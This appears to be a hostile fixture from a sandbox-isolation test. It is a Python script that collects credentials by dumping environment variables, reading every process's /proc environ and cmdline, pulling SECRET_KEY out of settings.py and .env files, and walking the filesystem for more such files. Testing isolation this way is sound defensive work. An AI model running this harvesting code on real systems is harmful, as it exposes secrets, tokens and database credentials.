"""Hostile: hunt for the worker's secrets (environment, other processes, the settings file) and report."""

import os
import re
import time

SETTINGS = "@SETTINGS@"  # the host path of tracker/project/settings.py
DOTENV = "@DOTENV@"  # the host path of the checkout's .env

LOOKS_SECRET = re.compile(r"SECRET|PASSWORD|TOKEN|DATABASE|BROKER|_KEY|_URL", re.IGNORECASE)
report = {"env": dict(os.environ), "secrets": [], "tried": {}}


def read(path):
    try:
        with open(path, "rb") as handle:
            text = handle.read(2_000_000).decode("utf-8", "replace")
    except OSError as error:
        report["tried"][path] = type(error).__name__
        return ""
    report["tried"][path] = f"read {len(text)} chars"
    print(f"--- {path} ---\n{text[:20000]}")  # whatever was read goes to the log, where the test looks
    return text


for name, value in os.environ.items():
    if LOOKS_SECRET.search(name):
        report["secrets"].append(f"environ {name}={value}")

report["pids"] = sorted(int(entry) for entry in os.listdir("/proc") if entry.isdigit())
for pid in report["pids"]:
    for item in read(f"/proc/{pid}/environ").split("\0"):
        if LOOKS_SECRET.search(item.partition("=")[0]):
            report["secrets"].append(f"/proc/{pid}/environ {item}")
    read(f"/proc/{pid}/cmdline")

for path in (SETTINGS, DOTENV, "/proc/1/root" + SETTINGS, "/proc/1/cwd/tracker/project/settings.py"):
    for match in re.finditer(r"SECRET_KEY\W+(\S+)", read(path)):
        report["secrets"].append(f"{path}: {match.group(0)}")

# Is a settings file or an .env anywhere else in reach?
report["files"], deadline = [], time.monotonic() + 5
for root, dirs, files in os.walk("/"):
    if root == "/":
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
    if time.monotonic() > deadline:
        report["walk"] = "gave up after 5 s"
        break
    if "-packages" not in root:
        report["files"] += [os.path.join(root, f) for f in files if f in (".env", "settings.py")]

hostile_report(report)  # noqa: F821 - defined by the test's prelude
